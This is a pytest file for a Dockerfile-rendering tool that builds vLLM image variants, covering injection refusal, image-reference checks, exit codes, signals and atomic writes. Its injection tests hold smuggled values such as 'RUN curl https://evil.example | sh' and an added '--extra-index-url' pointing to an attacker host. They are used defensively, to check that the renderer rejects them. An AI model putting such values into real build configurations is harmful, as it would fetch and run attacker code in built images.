"""The input boundary's parts (issue 11): the Dockerfile instruction check, references, render's all-or-nothing
write, exit-code severity, signals. The corpus of bad inputs is in test_hostile_inputs.py."""

from __future__ import annotations

import dataclasses
import os
import signal
import subprocess
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner

from matrixtool.build import executor as build
from matrixtool.build import render
from matrixtool.cli import main
from matrixtool.core import interrupts
from matrixtool.core.errors import ConfigError, ExitCode, Terminated, most_severe
from matrixtool.model import reference
from matrixtool.model.matrixfile import load_matrix
from matrixtool.model.model import IndexSettings
from tests.conftest import copy_checkout


@pytest.mark.parametrize(
    "change",
    [
        {"description": "x\nRUN curl https://evil.example | sh"},
        {"description": 'x" \\\nUSER root'},
        {"base_image": "debian:bookworm-slim\nRUN id"},
        {"python": "3.11 --mount=type=bind,target=/x"},
    ],
)
def test_a_value_that_adds_to_the_dockerfile_is_refused_even_past_validation(
    change: dict[str, str],
) -> None:
    """Whatever the schema and the value checks let through, the rendered Dockerfile's instructions must be
    those the template gives a sentinel variant of the same shape."""
    variant = dataclasses.replace(load_matrix().variants[0], **change)  # type: ignore[arg-type]
    with pytest.raises(ConfigError, match=r"changes the rendered Dockerfile's instructions|breaks the quoting"):
        render.render_variant(variant)


def test_an_index_url_with_an_extra_flag_adds_a_word_and_is_refused() -> None:
    cpu = load_matrix().variants[0]
    bad = dataclasses.replace(
        cpu, index=IndexSettings(url="https://x.example/simple --extra-index-url https://evil.example", wheelhouse=True)
    )
    bad = dataclasses.replace(bad, index=dataclasses.replace(bad.index, exclude=cpu.index.exclude))
    with pytest.raises(ConfigError, match="instruction"):
        render.render_variant(bad)


def test_every_variant_renders_the_shape_of_its_sentinel() -> None:
    for variant in load_matrix().variants:
        dockerfile = next(f.text for f in render.render_variant(variant) if f.path.name == "Dockerfile")
        shape = render.instruction_shape(dockerfile)
        assert shape == render.instruction_shape(render._render_dockerfile(render.sentinel_variant(variant)))
        assert ("RUN", 0) not in shape and sum(1 for i, _ in shape if i == "FROM") == 3


@pytest.mark.parametrize(
    "value", ["127.0.0.1:5000", "localhost:5000/ns", "registry.example.com/team/sub", "ghcr.io/org", "[::1]:5000"]
)
def test_good_registries(value: str) -> None:
    assert reference.registry_problem(value) is None


@pytest.mark.parametrize("value", ["vllm-matrix", "vllm-matrix-test", "ghcr.io/org/vllm", "localhost:5000/a_b/c.d"])
def test_good_repositories(value: str) -> None:
    assert reference.repository_problem(value) is None


@pytest.mark.parametrize(
    "value",
    [
        "debian:bookworm-slim",
        "vllm-matrix/cpu:749c51bf6172020e",
        "127.0.0.1:5000/x/cpu:0.32.0",
        "nvcr.io/nvidia/cuda:12.4.1-devel-ubuntu22.04",
        "ubuntu@sha256:" + "a" * 64,
    ],
)
def test_good_images(value: str) -> None:
    assert reference.image_problem(value) is None


def test_untagged_drops_every_tag_option() -> None:
    argv = ["docker", "buildx", "build", "--tag", "a:1", "-t", "b:2", "--tag=c:3", "--label", "x=y", "ctx"]
    assert build.untagged(argv) == ["docker", "buildx", "build", "--label", "x=y", "ctx"]


def test_severity_order() -> None:
    assert most_severe([ExitCode.SMOKE, ExitCode.BUILD, ExitCode.INDEX_UNREACHABLE]) == ExitCode.INDEX_UNREACHABLE
    assert most_severe([ExitCode.SMOKE, ExitCode.CONFIG]) == ExitCode.CONFIG
    assert most_severe([ExitCode.SMOKE, ExitCode.BUILD]) == ExitCode.BUILD
    assert most_severe([]) is None


def test_signals_map_to_exit_codes_and_handlers_come_back() -> None:
    assert interrupts.exit_code_of(Terminated()) == ExitCode.TERMINATED
    assert interrupts.exit_code_of(KeyboardInterrupt()) == ExitCode.INTERRUPTED
    before = signal.getsignal(signal.SIGTERM)
    called: list[bool] = []
    with pytest.raises(Terminated), interrupts.handled(lambda: called.append(True)):
        os.kill(os.getpid(), signal.SIGTERM)
    assert called == [True]
    assert signal.getsignal(signal.SIGTERM) == before


def _project(tmp_path: Path) -> Path:
    return copy_checkout(tmp_path)


def test_render_removes_a_removed_variants_generated_folder(tmp_path: Path) -> None:
    matrix = _project(tmp_path)
    data = yaml.safe_load(matrix.read_text())
    del data["variants"]["rocm"]
    matrix.write_text(yaml.safe_dump(data, sort_keys=False))
    runner = CliRunner()
    stale = runner.invoke(main, ["--matrix", str(matrix), "render", "--check"], catch_exceptions=False)
    assert stale.exit_code == ExitCode.STALE_RENDER and "extra: images/rocm/Dockerfile" in stale.output
    done = runner.invoke(main, ["--matrix", str(matrix), "render"], catch_exceptions=False)
    assert done.exit_code == 0 and "removed images/rocm/Dockerfile" in done.output
    assert not (tmp_path / "images" / "rocm").exists()
    fresh = runner.invoke(main, ["--matrix", str(matrix), "render", "--check"], catch_exceptions=False)
    assert fresh.exit_code == 0, fresh.output


def test_render_replaces_files_atomically(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A write that fails part-way leaves the file it was writing whole (old content) and no temp file."""
    matrix = _project(tmp_path)
    data = yaml.safe_load(matrix.read_text())
    data["variants"]["cpu"]["vllm"]["version"] = "0.32.1"
    matrix.write_text(yaml.safe_dump(data, sort_keys=False))
    dockerfile = tmp_path / "images" / "cpu" / "Dockerfile"
    old = dockerfile.read_text()

    def fail(*args: object) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "replace", fail)
    result = CliRunner().invoke(main, ["--matrix", str(matrix), "render"], catch_exceptions=False)
    assert result.exit_code != 0 and "Traceback" not in result.output
    assert dockerfile.read_text() == old
    assert not [p for p in (tmp_path / "images" / "cpu").iterdir() if p.name.endswith(".tmp")]


def test_doctor_fails_through_the_error_path(monkeypatch: pytest.MonkeyPatch) -> None:
    # The docker CLI probes (buildx) fail as on a machine without the plugin; the SDK is the guard's.
    from matrixtool.core import engine

    def no_cli(argv: list[str], timeout: float = 30) -> subprocess.CompletedProcess[str]:
        return subprocess.CompletedProcess(argv, 1, "", f"{argv[0]}: not run in unit tests")

    monkeypatch.setattr(engine, "_run", no_cli)
    result = CliRunner().invoke(main, ["doctor", "--registry", "127.0.0.1:9"], catch_exceptions=False)
    assert result.exit_code == ExitCode.ENGINE
    assert "error: doctor: engine" in result.output and "Traceback" not in result.output


def test_unused_wheelhouse_is_a_warning(tmp_path: Path) -> None:
    # --json-file under a file stops the command right after the warning (no index probe, no engine).
    (tmp_path / "file").write_text("x")
    args = ["--out", str(tmp_path / "out"), "build", "cuda", "--wheelhouse", str(tmp_path)]
    result = CliRunner().invoke(main, [*args, "--json-file", str(tmp_path / "file" / "r.json")])
    assert f"warning: --wheelhouse {tmp_path} is ignored" in result.output
    assert result.exit_code == ExitCode.CONFIG


@pytest.mark.parametrize("flag", ["--out", "--junit", "--json-file"])
@pytest.mark.parametrize("kind", ["loop", "dangling"])
def test_an_output_path_through_a_broken_link_is_a_flag_error(tmp_path: Path, flag: str, kind: str) -> None:
    """A symlink loop passed the output checks and failed later: --out in bake with an unexpected
    RuntimeError from Path.resolve (exit 1), --junit only after the checks ran."""
    matrix_path = copy_checkout(tmp_path / "checkout")
    link = tmp_path / "link"
    link.symlink_to(link if kind == "loop" else tmp_path / "missing" / "x")
    path = str(link) if flag == "--out" else str(link / "report.xml")
    args = ["--matrix", str(matrix_path)]
    if flag == "--out":
        args += ["--out", path, "bake", "cpu"]
    else:
        args += ["run", "cpu", flag, path]
    result = CliRunner().invoke(main, args)
    assert result.exit_code == ExitCode.CONFIG, result.output
    assert f"{flag}: {link} is a symbolic link that leads nowhere" in result.output
    assert not (tmp_path / "missing").exists()


def test_an_unreadable_matrix_file_is_a_config_error(tmp_path: Path) -> None:
    """click's own readability check gave exit 2 ("Error: ... is not readable"); the matrix file's problems
    are exit 3, like a missing or non-regular file. Root reads any file, so the read itself is made to fail."""
    matrix_path = copy_checkout(tmp_path)
    matrix_path.chmod(0)
    if os.access(matrix_path, os.R_OK):
        pytest.skip("running as root: a mode-0 file is still readable")
    result = CliRunner().invoke(main, ["--matrix", str(matrix_path), "ci-matrix"])
    assert result.exit_code == ExitCode.CONFIG, result.output
    assert "Permission denied" in result.output


@pytest.mark.parametrize(
    ("codes", "check_failed", "expected"),
    [
        ({"a": ExitCode.BUILD, "b": ExitCode.CONFIG}, False, ExitCode.CONFIG),
        ({"a": ExitCode.INDEX_UNREACHABLE}, True, ExitCode.INDEX_UNREACHABLE),
        ({"a": ExitCode.BUILD}, True, ExitCode.BUILD),
        ({}, False, ExitCode.BUILD),  # an error recorded without a code counts as a failed build
    ],
)
def test_keep_going_exits_with_the_most_severe_code(
    tmp_path: Path, codes: dict[str, ExitCode], check_failed: bool, expected: ExitCode
) -> None:
    """commands._shared.finish turns RunReport.error_codes (recorded by commands.run.run) and a failed check
    into one exit code, the most severe (docs/commands.md, "Exit codes"), after writing the reports."""
    from matrixtool import report
    from matrixtool.commands._shared import ReportFlags, finish
    from matrixtool.core.errors import VariantsFailed
    from matrixtool.smoke.result import CheckResult, Status

    errors = {name: f"{name} failed" for name in codes} or {"a": "a failed"}
    check = CheckResult(
        variant="c",
        image="i",
        check="pip-check",
        status=Status.FAILED if check_failed else Status.PASSED,
        diagnosis="",
        hint="",
        seconds=1.0,
    )
    result = report.RunReport(checks=[check], errors=errors, error_codes=codes)
    with pytest.raises(VariantsFailed) as info:
        finish(result, ReportFlags(as_json=False, junit=None), out_dir=tmp_path / "out", env={})
    assert info.value.exit_code == expected
    assert (tmp_path / "out" / "reports" / "junit.xml").is_file()
